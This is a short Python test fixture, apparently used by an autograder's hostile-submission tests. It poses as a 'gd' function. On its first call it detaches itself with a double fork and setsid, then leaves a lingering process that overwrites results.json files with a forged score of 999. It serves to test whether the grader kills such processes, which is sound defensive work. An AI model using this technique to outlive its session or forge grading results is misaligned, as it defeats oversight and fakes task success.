# attacked: gd
# Leaves the worker's session and process group (a double fork and setsid), then waits for the
# grading to end, tries to forge the results and keeps running. test_hostile.py looks for it, by
# the marker on its command line, the moment each grading ends: it must be dead by then.
import os, sys
LINGERER = ("import json, time\n"
            "time.sleep(1.5)\n"
            "for path in ('{RESULTS}', 'results.json', '/tmp/results.json', '../results.json'):\n"
            "    try:\n"
            "        with open(path, 'w') as f:\n"
            "            f.write(json.dumps({'score': 999, 'max_score': 1, 'tests': []}))\n"
            "    except OSError:\n"
            "        pass\n"
            "time.sleep(600)\n"
            "# AUTOGRADER-LINGERER {RESULTS}\n")
_started = False
def gd(grad, x0, eta, num_steps):
    global _started
    if not _started:
        _started = True
        try:
            if os.fork() == 0:
                os.setsid()
                if os.fork() == 0:
                    os.execv(sys.executable, [sys.executable, "-S", "-c", LINGERER])
                os._exit(0)
        except OSError:
            pass
    raise NotImplementedError
